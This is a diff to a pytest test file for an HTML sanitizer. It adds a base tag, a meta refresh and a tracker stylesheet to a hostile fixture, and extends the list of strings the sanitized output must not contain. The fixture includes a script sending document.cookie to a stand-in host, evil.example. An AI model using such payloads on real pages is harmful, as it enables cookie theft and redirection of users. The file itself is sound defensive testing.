@@ -4,7 +4,9 @@ import pytest
 
 from evidence.sanitize import LINK_REL, html_to_text, sanitize_html
 
-HOSTILE = """<html><head><title>Hi</title><style>p {color: red}</style></head>
+HOSTILE = """<html><head><title>Hi</title><style>p {color: red}</style>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<link rel="stylesheet" href="https://tracker.example/s.css"></head>
 <body onload="steal()">
 <p style="background:url(https://tracker.example/bg.png)" onclick="steal()">Your order <b>shipped</b></p>
 <script>document.location='https://evil.example/?c='+document.cookie</script>
@@ -31,7 +33,8 @@ def cleaned() -> str:
     "forbidden",
     ["<script", "steal()", "onload", "onclick", "style=", "<style", "javascript:", "data:",
      "tracker.example", "evil.example", "<img", "srcset", "<iframe", "<object", "<form", "<input",
-     "background", "/relative", "<svg", "document.cookie", 'rel="opener"'],
+     "background", "/relative", "<svg", "document.cookie", 'rel="opener"', "<base", "<meta", "<link",
+     "refresh"],
 )  # fmt: skip
 def test_sanitize_html_removes_active_and_remote_content(cleaned: str, forbidden: str) -> None:
     assert forbidden not in cleaned
